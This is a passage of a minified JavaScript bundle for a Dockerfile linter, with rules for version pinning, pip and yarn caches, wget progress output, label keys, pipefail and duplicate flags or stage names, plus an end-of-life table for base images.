RUN dnf install -y httpd && dnf clean all
`,good:`FROM fedora:40
RUN dnf install -y httpd-2.4.59 && dnf clean all
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(!yO.includes(s.name))continue;let i=z(s,ot),r=i[0]?.value==="module";if(i[0]?.value==="group"||i[0]?.value==="groupinstall"||(r?i[1]:i[0])?.value!=="install")continue;let a=i.slice(r?2:1).filter(c=>rs(c)&&(r?!c.value.includes(":"):!ho(c.value)));a.length&&e({message:`Specify version with \`${s.name} install -y <package>-<version>\`: ${a.map(c=>c.value).join(", ")}`,range:a[0].range})}},tests:[{name:"unpinned",input:`FROM fedora
RUN dnf install -y httpd python3-pip
`,expect:[{line:2,col:20,message:"httpd, python3-pip"}]},{name:"pinned",input:`FROM fedora
RUN dnf install -y httpd-2.4.59 "git-2.45*" ./x.rpm
`,expect:[]},{name:"module stream",input:`FROM fedora
RUN dnf module install -y nodejs:20/common
`,expect:[]},{name:"groups are not pinnable",input:`FROM fedora
RUN dnf group install -y "Development Tools" && dnf install -y @c-development
`,expect:[]},{name:"microdnf",input:`FROM ubi9-minimal
RUN microdnf install -y shadow-utils
`,expect:[{line:2}]}]},Nh=bO;function Eh(n){if(n.keyword!=="ENV"&&n.keyword!=="ARG")return;let e;for(let t of n.args){let s=/^PIP_NO_CACHE_DIR=["']?([^"']*)["']?$/.exec(t.getValue());s&&(e=s[1])}return e}var wO=/^(1|true|on|yes)$/i,vO={id:"DL3042",language:"dockerfile",severity:"info",compat:{hadolint:"DL3042"},docs:{summary:"Avoid the pip cache directory: use `pip install --no-cache-dir`.",why:"pip keeps every downloaded wheel in `~/.cache/pip`; in an image that cache is never reused but stays in the layer, often adding tens or hundreds of megabytes. `ENV PIP_NO_CACHE_DIR=1` or a cache mount are fine too.",bad:`FROM python:3.12-slim
RUN pip install flask==3.0.3
`,good:`FROM python:3.12-slim
RUN pip install --no-cache-dir flask==3.0.3
`},check({model:n,report:e}){for(let t of H(n)){let s=t.commands.map(o=>({c:o,pip:Wt(o)})).filter(o=>o.pip);if(!s.length)continue;let i=Bt(n,t.ins,"PIP_NO_CACHE_DIR",o=>Eh(o)!==void 0);if(!(i&&wO.test(Eh(i)))&&!t.commands.some(o=>[...o.assignments,...o.args].some(a=>/^PIP_NO_CACHE_DIR=(1|true|on|yes)$/i.test(a.value)))&&!(We(n,t.ins,"/root/.cache/pip")||Zs(n,t.ins).some(o=>o.type==="cache"&&/pip/.test(o.target??""))))for(let{c:o,pip:a}of s)a.all.some(c=>c.value==="--no-cache-dir"||c.value.startsWith("--cache-dir"))||o.assignments.some(c=>c.value.startsWith("PIP_NO_CACHE_DIR="))||e({message:"Avoid use of cache directory with pip. Use `pip install --no-cache-dir <package>`",range:a.install.range,fixes:[{title:"Add `--no-cache-dir`",edits:[_e(a.install,"--no-cache-dir")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM python:3.12
RUN pip install -r requirements.txt
`,expect:[{line:2,col:9}],fixed:`FROM python:3.12
RUN pip install --no-cache-dir -r requirements.txt
`},{name:"python -m pip",input:`FROM python:3.12
RUN python -m pip install flask==3.0.3
`,expect:[{line:2,col:19}],fixed:`FROM python:3.12
RUN python -m pip install --no-cache-dir flask==3.0.3
`},{name:"present",input:`FROM python:3.12
RUN pip3 install --no-cache-dir flask==3.0.3
`,expect:[]},{name:"ENV PIP_NO_CACHE_DIR",input:`FROM python:3.12
ENV PIP_NO_CACHE_DIR=1
RUN pip install flask==3.0.3
`,expect:[]},{name:"ENV in the parent stage",input:`FROM python:3.12 AS base
ENV PIP_NO_CACHE_DIR=true
FROM base
RUN pip install flask==3.0.3
`,expect:[]},{name:"ENV set to off does not count",input:`FROM python:3.12
ENV PIP_NO_CACHE_DIR=off
RUN pip install flask==3.0.3
`,expect:[{line:3}]},{name:"env prefix",input:`FROM python:3.12
RUN PIP_NO_CACHE_DIR=1 pip install flask==3.0.3
`,expect:[]},{name:"cache mount",input:`FROM python:3.12
RUN --mount=type=cache,target=/root/.cache/pip pip install flask==3.0.3
`,expect:[]},{name:"other stage ENV does not count",input:`FROM python:3.12 AS a
ENV PIP_NO_CACHE_DIR=1
FROM python:3.12
RUN pip install flask==3.0.3
`,expect:[{line:4}]},{name:"not an install",input:`FROM python:3.12
RUN pip freeze && pip wheel . -w /wheels
`,expect:[]}]},_h=vO;var kO={id:"DL3045",language:"dockerfile",severity:"info",compat:{hadolint:"DL3045"},docs:{summary:"`COPY` to a relative destination without `WORKDIR` set.",why:"A relative destination is resolved against the working directory, which the base image chooses (often `/`). Set WORKDIR in the stage (or a stage it builds on) so the files land where you expect. Reported as info: the destination is the same on every build of the same base image, so this is about saying where, not a mistake.",bad:`FROM node:20-slim
COPY package.json app/
`,good:`FROM node:20-slim
WORKDIR /usr/src
COPY package.json app/
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="COPY"||!t.stage)continue;let s=Gt(n,t);if(!s||s.values.length<2)continue;let i=s.values[s.values.length-1];i.startsWith("/")||i.startsWith("$")||/^[A-Za-z]:[\\/]/.test(i)||i.startsWith("\\")||Bt(n,t,"WORKDIR",r=>r.keyword==="WORKDIR")||os(n,t.stage).imageName?.toLowerCase()!=="scratch"&&e({message:"`COPY` to a relative destination without `WORKDIR` set",range:s.ranges[s.ranges.length-1]})}},tests:[{name:"relative without WORKDIR, as info",input:`FROM node
COPY a.txt app/
`,expect:[{line:2,col:12,severity:"info",message:"`COPY` to a relative destination without `WORKDIR` set"}]},{name:"scratch works in /",input:`FROM scratch
COPY app .
`,expect:[]},{name:"dot destination",input:`FROM node
COPY . .
`,expect:[{line:2}]},{name:"WORKDIR set",input:`FROM node
WORKDIR /app
COPY . .
`,expect:[]},{name:"WORKDIR in the parent stage",input:`FROM node AS base
WORKDIR /app
FROM base
COPY . .
`,expect:[]},{name:"WORKDIR after the COPY does not count",input:`FROM node
COPY . .
WORKDIR /app
`,expect:[{line:2}]},{name:"absolute, variable, Windows",input:`FROM node
COPY a /app/
COPY b $DIR
COPY c C:\\\\app
`,expect:[]},{name:"quoted absolute and variable destinations",input:`FROM golang
COPY "go.mod" "/src/"
COPY b "\${DIR}"
COPY c '/opt'
`,expect:[]},{name:"quoted relative destination",input:`FROM golang
COPY "go.mod" "go.sum" "./"
`,expect:[{line:2,col:24}]}]},$h=kO;function xO(n){return Ot(n,["q","o","a"],["progress","quiet","output-file","append-output","no-verbose"])||n.args.some(e=>e.value==="-nv")}var RO={id:"DL3047",language:"dockerfile",severity:"info",compat:{hadolint:"DL3047"},docs:{summary:"Use `wget --progress=dot:giga` (or `-q` / `-nv`) in RUN.",why:"Without a terminal, wget's default progress output prints a line every few kilobytes: downloading a large file writes thousands of lines into the build log. `--progress=dot:giga` prints one dot per megabyte-sized chunk.",bad:`FROM debian:bookworm
RUN wget https://example.com/big.tar.gz
`,good:`FROM debian:bookworm
RUN wget --progress=dot:giga https://example.com/big.tar.gz
`},check({model:n,report:e,options:t}){let s=new Map(rt(n,t.buildArgs).map(i=>[i.stage,i]));for(let i of H(n)){let r=i.ins.stage&&s.get(i.ins.stage),o=/alpine|busybox/i.test(r?.resolved??"");for(let a of i.commands){if(a.name!=="wget"||xO(a))continue;let c={title:"Add `--progress=dot:giga`",edits:[_e(a.nameWord,"--progress=dot:giga")]},l={title:"Add `-q`",edits:[_e(a.nameWord,"-q")]};e({message:"Avoid use of wget without progress bar. Use `wget --progress=dot:giga <url>`. Or consider using `-q` or `-nv` (shorthands for `--quiet` or `--no-verbose`)",range:a.nameWord.range,fixes:o?[{...l,preferred:!0},c]:[{...c,preferred:!0},l]})}}},tests:[{name:"plain wget",input:`FROM debian
RUN wget https://example.com/a.tgz
`,expect:[{line:2,col:5}],fixed:`FROM debian
RUN wget --progress=dot:giga https://example.com/a.tgz
`},{name:"alpine prefers -q",input:`FROM alpine:3.20
RUN wget -O /a https://example.com/a
`,expect:[{line:2}],fixed:`FROM alpine:3.20
RUN wget -q -O /a https://example.com/a
`},{name:"--progress",input:`FROM debian
RUN wget --progress=dot:giga https://example.com/a.tgz
`,expect:[]},{name:"-q, -qO-, -nv, --no-verbose",input:`FROM debian
RUN wget -q a && wget -qO- b && wget -nv c && wget --no-verbose d
`,expect:[]},{name:"-o log file",input:`FROM debian
RUN wget -o /tmp/log https://example.com/a
`,expect:[]},{name:"-O is not -o",input:`FROM debian
RUN wget -O a.tgz https://example.com/a.tgz
`,expect:[{line:2}]},{name:"curl",input:`FROM debian
RUN curl -fsSLO https://example.com/a
`,expect:[]}]},Ch=RO;function OO(n){if(!/^[a-z]/.test(n))return"must start with a lower-case letter";if(!/[a-z0-9]$/.test(n))return"must end with a lower-case letter or digit";if(/[^a-z0-9.-]/.test(n))return"may only contain lower-case letters, digits, `.` and `-`";if(/\.\.|--/.test(n))return"must not contain consecutive `.` or `-`";if(/^(com\.docker\.|io\.docker\.|org\.dockerproject\.)/.test(n))return"uses a namespace reserved by Docker"}var SO={id:"DL3048",language:"dockerfile",severity:"hint",compat:{hadolint:"DL3048"},docs:{summary:"Invalid label key.",why:"Docker recommends label keys in reverse-DNS notation made of lower-case letters, digits, `.` and `-` (e.g. `org.opencontainers.image.source`); the `com.docker.*`, `io.docker.*` and `org.dockerproject.*` namespaces are reserved.",bad:`FROM alpine:3.20
LABEL Maintainer="team@example.com"
`,good:`FROM alpine:3.20
LABEL org.opencontainers.image.authors="team@example.com"
`},check({model:n,report:e}){for(let t of n.instructions)if(t.keyword==="LABEL")for(let s of t.node.getProperties()){let i=s.getName().replace(/^"(.*)"$|^'(.*)'$/,"$1$2");if(!i||i.includes("$"))continue;let r=OO(i);r&&e({message:`Invalid label key \`${i}\`: ${r}`,range:s.getNameRange()})}},tests:[{name:"upper case",input:`FROM alpine
LABEL Maintainer=me version=1
`,expect:[{line:2,col:7,message:"lower-case"}]},{name:"reserved namespace",input:`FROM alpine
LABEL com.docker.foo=1
`,expect:[{line:2}]},{name:"underscore and double dot",input:`FROM alpine
LABEL my_label=1 a..b=2
`,expect:[{line:2,col:7},{line:2,col:18}]},{name:"quoted valid key",input:`FROM alpine
LABEL "org.opencontainers.image.title"="x" description="y"
`,expect:[]},{name:"legacy form",input:`FROM alpine
LABEL maintainer me
`,expect:[]},{name:"variable key",input:`FROM alpine
LABEL \${PREFIX}.version=1
`,expect:[]}]},Dh=SO;var MO={id:"DL3057",language:"dockerfile",severity:"info",optIn:!0,compat:{hadolint:"DL3057"},docs:{summary:"HEALTHCHECK instruction missing (opt-in).",why:'Without a HEALTHCHECK, Docker and Compose only know whether the process runs, not whether it answers; a hung server stays "healthy". Many images (CLIs, build images, services probed by Kubernetes) need none, so this check is off unless you enable it. `HEALTHCHECK NONE` counts as a deliberate choice.',bad:`FROM nginx:1.27
COPY site /usr/share/nginx/html
`,good:`FROM nginx:1.27
COPY site /usr/share/nginx/html
HEALTHCHECK CMD curl -fs http://localhost/ || exit 1
`},check({model:n,report:e}){let t=n.stages[n.stages.length-1];if(!t)return;let s=new Set;for(let i=t;i&&!s.has(i);i=n.parentStage(i))if(s.add(i),i.instructions.some(r=>r.keyword==="HEALTHCHECK"))return;e({message:"`HEALTHCHECK` instruction missing",range:t.fromInstruction.range})},tests:[{name:"missing",input:`FROM nginx
COPY a /b
`,expect:[{line:1}]},{name:"in the final stage only",input:`FROM a AS x
HEALTHCHECK CMD true
FROM nginx
`,expect:[{line:3}]},{name:"present",input:`FROM nginx
HEALTHCHECK --interval=30s CMD curl -f http://localhost/
`,expect:[]},{name:"NONE",input:`FROM nginx
HEALTHCHECK NONE
`,expect:[]},{name:"inherited from the parent stage",input:`FROM nginx AS base
HEALTHCHECK CMD true
FROM base
`,expect:[]}]},Fh=MO;var AO=new Set(["cd","pushd","popd","export","unset","set","source",".","umask","ulimit","alias","shopt","exit","exec","trap"]);function Ml(n,e){let t=e.argsRange;return t?n.text.slice(n.lines.offsetAt(e.keywordRange.end),n.lines.offsetAt(t.start)).trim().replace(/\s+/g," "):""}function NO(n,e,t){if(e.form!=="shell"||t.form!=="shell"||e.endsWithComment||e.opaque||t.opaque||e.commands.some(r=>AO.has(r.name)))return!1;let s=n.textOf(e.ins.argsRange);if(/[;&|]\s*$/.test(s)||s.includes("<<")||n.textOf(t.ins.argsRange).includes("<<"))return!1;let i=n.text.slice(n.lines.offsetAt(e.ins.range.end),n.lines.offsetAt(t.ins.range.start));return/^\s*$/.test(i)&&Ml(n,t.ins)===""}var EO={id:"DL3059",language:"dockerfile",severity:"info",compat:{hadolint:"DL3059"},docs:{summary:"Multiple consecutive RUN instructions: consider consolidation.",why:"Each RUN adds a layer; several short consecutive RUNs make the image bigger and slower to pull than one RUN chained with `&&`, and files deleted in a later RUN still take space in the earlier layer. RUNs that are already long (more than two commands) or use different `--mount` flags are left alone.",bad:`FROM debian:bookworm
RUN mkdir -p /app
RUN chown nobody /app
`,good:`FROM debian:bookworm
RUN mkdir -p /app && \\
    chown nobody /app
`},check({model:n,report:e}){for(let t of n.stages){let s;for(let i of t.instructions){if(i.keyword!=="RUN"){s=void 0;continue}let r=Xs(n,i),o=r?r.commands.length:1/0;if(s&&Ml(n,s.ins)===Ml(n,i)&&o<=2&&(s.run?.commands.length??1/0)<=2){let a=s.run&&r&&NO(n,s.run,r)?[{title:"Merge into the previous RUN",edits:[{range:{start:s.ins.argsRange.end,end:i.argsRange.start},newText:` && ${n.escape}
    `}]}]:void 0;e({message:"Multiple consecutive `RUN` instructions. Consider consolidation",range:i.keywordRange,fixes:a})}s={ins:i,run:r}}}},tests:[{name:"two short RUNs",input:`FROM debian
RUN mkdir -p /app
RUN chown nobody /app
`,expect:[{line:3,col:1}],fixed:`FROM debian
RUN mkdir -p /app && \\
    chown nobody /app
`},{name:"three RUNs",input:`FROM debian
RUN a
RUN b
RUN c
`,expect:[{line:3},{line:4}]},{name:"comments do not separate",input:`FROM debian
RUN a
# why
RUN b
`,expect:[{line:4}],fixed:`FROM debian
RUN a
# why
RUN b
`},{name:"another instruction separates",input:`FROM debian
RUN a
ENV X=1
RUN b
`,expect:[]},{name:"long RUNs are deliberate",input:`FROM debian
RUN a && b && c
RUN d
`,expect:[]},{name:"different mounts",input:`FROM debian
RUN --mount=type=cache,target=/root/.cache a
RUN b
`,expect:[]},{name:"different stages",input:`FROM debian AS a
RUN a
FROM debian
RUN b
`,expect:[]},{name:"no merge after cd",input:`FROM debian
RUN cd /x
RUN make
`,expect:[{line:3}],fixed:`FROM debian
RUN cd /x
RUN make
`}]},Th=EO;var _O={id:"DL3060",language:"dockerfile",severity:"info",compat:{hadolint:"DL3060"},docs:{summary:"`yarn cache clean` missing after `yarn install`.",why:"yarn keeps a copy of every downloaded package in its cache; in an image layer that copy is dead weight. Clean it in the same RUN (or use a cache mount for the yarn cache).",bad:`FROM node:20-slim
RUN yarn install --frozen-lockfile
`,good:`FROM node:20-slim
RUN yarn install --frozen-lockfile && yarn cache clean
`},check({model:n,report:e}){for(let t of H(n)){let s=t.commands.find(r=>r.name==="yarn"&&z(r,["cwd","modules-folder","cache-folder"])[0]?.value==="install");if(!s||t.commands.some(r=>r.name==="yarn"&&r.args.some((o,a)=>o.value==="cache"&&r.args[a+1]?.value==="clean"))||Zs(n,t.ins).some(r=>r.type==="cache"&&/yarn/.test(r.target??""))||s.args.some(r=>r.value.startsWith("--cache-folder")))continue;let i=St(n,t,"yarn cache clean");e({message:"`yarn cache clean` missing after `yarn install` was run",range:s.nameWord.range,fixes:i?[{title:"Append `yarn cache clean`",edits:[i],preferred:!0}]:void 0})}},tests:[{name:"missing",input:`FROM node:20
RUN yarn install --frozen-lockfile
`,expect:[{line:2,col:5}],fixed:`FROM node:20
RUN yarn install --frozen-lockfile && yarn cache clean
`},{name:"cleaned",input:`FROM node:20
RUN yarn install && yarn build && yarn cache clean
`,expect:[]},{name:"cache mount",input:`FROM node:20
RUN --mount=type=cache,target=/usr/local/share/.cache/yarn yarn install
`,expect:[]},{name:"yarn build only",input:`FROM node:20
RUN yarn build
`,expect:[]}]},Lh=_O;var Ih=new Set(["o","p","C","mod","modfile","tags","ldflags","gcflags","asmflags","gccgoflags","overlay","pkgdir","toolexec","exec","buildmode","compiler","installsuffix","pgo","covermode","coverpkg","buildvcs","modcacherw"]);function $O(n){return n.startsWith(".")||n.startsWith("/")||n.endsWith(".go")?!1:n.split("@")[0].split("/")[0].includes(".")}var CO={id:"DL3062",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3062"},docs:{summary:"Pin versions in `go install`, `go get` and `go run`: use `<package>@<version>`, not `@latest`.",why:"`go install example.com/tool@latest` (or without a version) builds whatever was tagged last, so two builds of the same Dockerfile can produce different tools. Name the version.",bad:`FROM golang:1.22
RUN go install golang.org/x/tools/gopls@latest
`,good:`FROM golang:1.22
RUN go install golang.org/x/tools/gopls@v0.15.3
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="go")continue;let i=z(s,Ih),r=i[0]?.value;if(r!=="install"&&r!=="get"&&r!=="run")continue;let o=i.slice(1);if(r==="install"&&o[0]?.value==="tool"&&(o=o.slice(1)),r==="run"){let a={...s,args:s.args.slice(s.args.indexOf(i[0])+1)},c=z(a,Ih)[0];o=c?[c]:[]}for(let a of o){if(a.dynamic||!$O(a.value))continue;let c=a.value.lastIndexOf("@"),l=c<0?"":a.value.slice(c+1);l&&l!=="latest"||e({message:`Pin versions in go ${r}: ${a.value}. Instead of \`go ${r} <package>\` use \`go ${r} <package>@<version>\``,range:a.range})}}},tests:[{name:"@latest",input:`FROM golang:1.22
RUN go install example.com/pkg@latest
`,expect:[{line:2,col:16}]},{name:"no version",input:`FROM golang:1.22
RUN go install example.com/pkg
`,expect:[{line:2}]},{name:"pinned",input:`FROM golang:1.22
RUN go install example.com/pkg@v1.2.3
`,expect:[]},{name:"local paths",input:`FROM golang:1.22
RUN go install ./cmd/... && go install . && go run main.go && go get -d -v ./...
`,expect:[]},{name:"go get tool",input:`FROM golang:1.22
RUN go get -tool example.com/foo@latest
`,expect:[{line:2}]},{name:"go run pinned with program arguments",input:`FROM golang:1.22
RUN go run example.com/pkg@v1.2.3 --foo bar
`,expect:[]},{name:"go build is not checked",input:`FROM golang:1.22
RUN go build -ldflags "-s -w" -o /app ./cmd/app
`,expect:[]}]},Ph=CO;var DO={id:"DL4001",language:"dockerfile",severity:"info",compat:{hadolint:"DL4001"},docs:{summary:"Either use wget or curl, but not both, in a stage.",why:"Installing and using two download tools for the same job adds packages (and their vulnerabilities) to the image for nothing.",bad:`FROM debian:bookworm
RUN curl -fsSLO https://example.com/a.tgz
RUN wget -q https://example.com/b.tgz
`,good:`FROM debian:bookworm
RUN curl -fsSLO https://example.com/a.tgz
RUN curl -fsSLO https://example.com/b.tgz
`},check({model:n,report:e}){let t=new Map;for(let s of H(n)){let i=s.commands.filter(c=>c.name==="curl"||c.name==="wget");if(!i.length)continue;let r=t.get(s.ins.stage);r||t.set(s.ins.stage,r=new Set);let o=new Set(r);for(let c of i)r.add(c.name);if(r.size<2)continue;let a=i[0];o.size===1?a=i.find(c=>!o.has(c.name))??a:o.size===0&&(a=i.find(c=>c.name!==i[0].name)??a),e({message:"Either use Wget or Curl but not both",range:a.nameWord.range})}},tests:[{name:"both in one RUN",input:`FROM debian
RUN curl -O a && wget -q b
`,expect:[{line:2,col:18}]},{name:"across RUNs",input:`FROM debian
RUN curl -O a
RUN wget -q b
RUN curl -O c
`,expect:[{line:3},{line:4}]},{name:"different stages",input:`FROM debian AS a
RUN curl -O a
FROM alpine
RUN wget -q b
`,expect:[]},{name:"only one tool",input:`FROM debian
RUN apt-get install -y curl wget && curl -O a
`,expect:[]}]},jh=DO;var FO={id:"DL4006",language:"dockerfile",severity:"warning",compat:{hadolint:"DL4006"},docs:{summary:"Set the SHELL option `-o pipefail` before a RUN with a pipe in it.",why:'A pipeline returns the status of its last command: in `RUN curl -fsSL https://x | tar -xz` a failed download is hidden when tar exits 0, and the build carries on with a broken image. `SHELL ["/bin/bash", "-o", "pipefail", "-c"]` (or `set -o pipefail` at the start of the RUN) makes the pipe fail. If your /bin/sh is busybox (Alpine), use `/bin/ash -o pipefail`; Debian\'s dash only supports pipefail in recent releases.',bad:`FROM debian:bookworm
RUN curl -fsSL https://example.com/x.tgz | tar -xz
`,good:`FROM debian:bookworm
SHELL ["/bin/bash", "-o", "pipefail", "-c"]
RUN curl -fsSL https://example.com/x.tgz | tar -xz
`},check({model:n,report:e}){for(let t of H(n)){if(Rl(n,t.ins).pipefail)continue;let s=t.pipes.find(r=>!r.pipefail);if(!s)continue;let i=n.lines.positionAt(s.offset);e({message:"Set the SHELL option -o pipefail before RUN with a pipe in it. If you are using /bin/sh in an alpine image or if your shell is symlinked to busybox then consider explicitly setting your SHELL to /bin/ash, or disable this check",range:{start:i,end:{line:i.line,character:i.character+1}}})}},tests:[{name:"pipe with the default shell",input:`FROM debian
RUN curl -fsSL https://x | tar -xz
`,expect:[{line:2,col:26}]},{name:"SHELL with pipefail",input:`FROM debian
SHELL ["/bin/bash", "-o", "pipefail", "-c"]
RUN curl -fsSL https://x | tar -xz
`,expect:[]},{name:"SHELL -eo pipefail (ash)",input:`FROM alpine
SHELL ["/bin/ash", "-eo", "pipefail", "-c"]
RUN wget -qO- https://x | tar -xz
`,expect:[]},{name:"set -o pipefail first",input:`FROM debian
RUN set -euxo pipefail; curl -fsSL https://x | tar -xz
`,expect:[]},{name:"set -o pipefail after the pipe does not help",input:`FROM debian
RUN curl https://x | tar -xz; set -o pipefail
`,expect:[{line:2}]},{name:"SHELL reset per stage",input:`FROM debian AS a
SHELL ["/bin/bash", "-o", "pipefail", "-c"]
FROM debian
RUN a | b
`,expect:[{line:4}]},{name:"SHELL inherited from the parent stage",input:`FROM debian AS a
SHELL ["/bin/bash", "-o", "pipefail", "-c"]
FROM a
RUN a | b
`,expect:[]},{name:"PowerShell",input:`FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["powershell", "-Command"]
RUN Get-ChildItem | Select-Object Name
`,expect:[]},{name:"|| is not a pipe",input:`FROM debian
RUN make || true
`,expect:[]},{name:"pipe inside quotes",input:`FROM debian
RUN echo 'a | b' && grep -E "x|y" f
`,expect:[]},{name:"pipe in a command substitution",input:`FROM debian
RUN arch="$(dpkg --print-architecture | cut -d- -f1)"
`,expect:[{line:2,col:39}]},{name:"bash -o pipefail -c",input:`FROM debian
RUN bash -o pipefail -c 'curl https://x | tar -xz'
`,expect:[]}]},qh=FO;var TO={id:"DuplicateFlag",language:"dockerfile",severity:"error",docs:{summary:"A flag that may appear once is given twice on the same instruction.",why:"Only `RUN --mount`, `RUN --device` and `--exclude` may repeat; `docker build` rejects any other flag given twice (`Duplicate flag specified`), even with the same value.",bad:`FROM python:3.12-slim AS build
FROM python:3.12-slim
COPY --from=build --chown=app --from=build /venv /venv
`,good:`FROM python:3.12-slim AS build
FROM python:3.12-slim
COPY --from=build --chown=app /venv /venv
`},check({model:n,report:e}){for(let t of n.instructions){let s=Zn[t.keyword];if(!s||!Rt(t.keyword))continue;let i=re(n,t);if(i.flags.length<2)continue;let r=new Set;for(let o=0;o<i.flags.length;o++){let a=i.flags[o],c=s[a.name];if(!c||c==="strings")continue;if(!r.has(a.name)){r.add(a.name);continue}let l=i.flags[o-1].end;e({message:`Duplicate flag specified: --${a.name}`,range:X(n,i.line,a.start,a.end),fixes:[{title:`Remove the second --${a.name}`,preferred:!0,edits:[{range:X(n,i.line,l,a.end),newText:""}]}]})}}},tests:[{name:"COPY --from twice",input:`FROM alpine AS a
FROM alpine
COPY --from=a --from=a /x /x
`,expect:[{line:3,col:15,message:"--from"}],fixed:`FROM alpine AS a
FROM alpine
COPY --from=a /x /x
`},{name:"bool twice",input:`FROM alpine
COPY --link --link a /a
`,expect:[{line:2,col:13}]},{name:"FROM platform twice",input:`FROM --platform=linux/amd64 --platform=linux/arm64 alpine
`,expect:[{line:1}]},{name:"HEALTHCHECK interval twice",input:`FROM alpine
HEALTHCHECK --interval=5s --interval=10s CMD true
`,expect:[{line:2}]},{name:"mount and exclude may repeat",input:`FROM alpine
RUN --mount=type=cache,target=/a --mount=type=cache,target=/b echo
COPY --exclude=a --exclude=b . /src
`,expect:[]},{name:"over continuation lines",input:`FROM alpine
RUN --network=none \\
    --network=host echo
`,expect:[{line:3,col:5}]},{name:"unknown flags are not counted",input:`FROM alpine
COPY --foo=1 --foo=2 a /a
`,expect:[]}]},Uh=TO;var LO={id:"DuplicateStageName",language:"dockerfile",severity:"warning",compat:{buildkit:"DuplicateStageName"},docs:{summary:"Stage names should be unique (compared case-insensitively).",why:"With two stages of the same name, `--from=name` and `--target name` silently refer to only one of them.",bad:`FROM node:20 AS build
RUN npm ci
FROM node:20 AS build
RUN npm run build
`,good:`FROM node:20 AS deps
RUN npm ci
FROM deps AS build
RUN npm run build
`},check({model:n,report:e}){let t=new Set;for(let s of n.stages){if(!s.name)continue;let i=s.name.toLowerCase();t.has(i)&&e({message:`Duplicate stage name "${i}", stage names should be unique`,range:s.nameRange??s.fromInstruction.keywordRange}),t.add(i)}},tests:[{name:"same name twice",input:`FROM scratch AS b
FROM scratch AS b
`,expect:[{line:2,col:17,message:'Duplicate stage name "b"'}]},{name:"case-insensitive",input:`FROM scratch AS build
FROM scratch AS Build
FROM scratch AS BUILD
`,expect:[{line:2},{line:3}]},{name:"distinct names",input:`FROM scratch AS b1
FROM scratch AS b2
FROM scratch
FROM scratch
`,expect:[]}]},Hh=LO;var mo={version:1,date:"2026-12-01",about:'End-of-life dates of release cycles of popular official Docker Hub images, by endoflife.date product. Generated by scripts/gen-eol.mjs from a snapshot of endoflife.date API answers (data/eol.source.json); do not edit. "date" is the day of the snapshot: EndOfLifeBaseImage reports cycles whose end is on or before it.',products:{python:{source:"https://endoflife.date/api/python.json",images:["python"],replacement:"3.14",cycles:[{cycle:"2.7",eol:"2020-01-01"},{cycle:"3.3",eol:"2017-09-29"},{cycle:"3.4",eol:"2019-03-18"},{cycle:"3.5",eol:"2020-09-30"},{cycle:"3.6",eol:"2021-12-23"},{cycle:"3.7",eol:"2023-06-27"},{cycle:"3.8",eol:"2024-10-07"},{cycle:"3.9",eol:"2025-10-31"},{cycle:"3.10",eol:"2026-10-31"},{cycle:"3.11",eol:"2027-10-31"},{cycle:"3.12",eol:"2028-10-31"},{cycle:"3.13",eol:"2029-10-31"},{cycle:"3.14",eol:"2030-10-31"}]},nodejs:{source:"https://endoflife.date/api/nodejs.json",images:["node"],replacement:"24",cycles:[{cycle:"4",eol:"2018-04-30"},{cycle:"6",eol:"2019-04-30"},{cycle:"8",eol:"2019-12-31"},{cycle:"10",eol:"2021-04-30"},{cycle:"11",eol:"2019-06-01"},{cycle:"12",eol:"2022-04-30"},{cycle:"13",eol:"2020-06-01"},{cycle:"14",eol:"2023-04-30"},{cycle:"15",eol:"2021-06-01"},{cycle:"16",eol:"2023-09-11"},{cycle:"17",eol:"2022-06-01"},{cycle:"18",eol:"2025-04-30"},{cycle:"19",eol:"2023-06-01"},{cycle:"20",eol:"2026-04-30"},{cycle:"21",eol:"2024-06-01"},{cycle:"22",eol:"2027-04-30"},{cycle:"23",eol:"2025-06-01"},{cycle:"24",eol:"2028-04-30"},{cycle:"25",eol:"2026-06-01"}]},ubuntu:{source:"https://endoflife.date/api/ubuntu.json",images:["ubuntu"],replacement:"24.04",replacementCodename:"noble",distro:!0,cycles:[{cycle:"14.04",eol:"2019-04-25",codename:"trusty"},{cycle:"16.04",eol:"2021-04-30",codename:"xenial"},{cycle:"18.04",eol:"2023-05-31",codename:"bionic"},{cycle:"19.04",eol:"2020-01-23",codename:"disco"},{cycle:"19.10",eol:"2020-07-17",codename:"eoan"},{cycle:"20.04",eol:"2025-05-29",codename:"focal"},{cycle:"20.10",eol:"2021-07-22",codename:"groovy"},{cycle:"21.04",eol:"2022-01-20",codename:"hirsute"},{cycle:"21.10",eol:"2022-07-14",codename:"impish"},{cycle:"22.10",eol:"2023-07-20",codename:"kinetic"},{cycle:"23.04",eol:"2024-01-25",codename:"lunar"},{cycle:"23.10",eol:"2024-07-11",codename:"mantic"},{cycle:"24.10",eol:"2025-07-10",codename:"oracular"}]},debian:{source:"https://endoflife.date/api/debian.json",images:["debian"],replacement:"13",replacementCodename:"trixie",distro:!0,useExtendedSupport:!0,cycles:[{cycle:"8",eol:"2020-06-30",codename:"jessie"},{cycle:"9",eol:"2022-06-30",codename:"stretch"},{cycle:"10",eol:"2024-06-30",codename:"buster"},{cycle:"11",eol:"2026-08-31",codename:"bullseye"},{cycle:"12",eol:"2028-06-30",codename:"bookworm"}]},alpine:{source:"https://endoflife.date/api/alpine.json",images:["alpine"],replacement:"3.24",distro:!0,cycles:[{cycle:"3.7",eol:"2019-11-01"},{cycle:"3.8",eol:"2020-05-01"},{cycle:"3.9",eol:"2020-11-01"},{cycle:"3.10",eol:"2021-05-01"},{cycle:"3.11",eol:"2021-11-01"},{cycle:"3.12",eol:"2022-05-01"},{cycle:"3.13",eol:"2022-11-01"},{cycle:"3.14",eol:"2023-05-01"},{cycle:"3.15",eol:"2023-11-01"},{cycle:"3.16",eol:"2024-05-23"},{cycle:"3.17",eol:"2024-11-22"},{cycle:"3.18",eol:"2025-05-09"},{cycle:"3.19",eol:"2025-11-01"},{cycle:"3.20",eol:"2026-04-01"},{cycle:"3.21",eol:"2026-11-01"}]},go:{source:"https://endoflife.date/api/go.json",images:["golang"],replacement:"1.27",cycles:[{cycle:"1.11",eol:"2019-09-03"},{cycle:"1.12",eol:"2020-02-25"},{cycle:"1.13",eol:"2020-08-11"},{cycle:"1.14",eol:"2021-02-16"},{cycle:"1.15",eol:"2021-08-16"},{cycle:"1.16",eol:"2022-03-15"},{cycle:"1.17",eol:"2022-08-02"},{cyc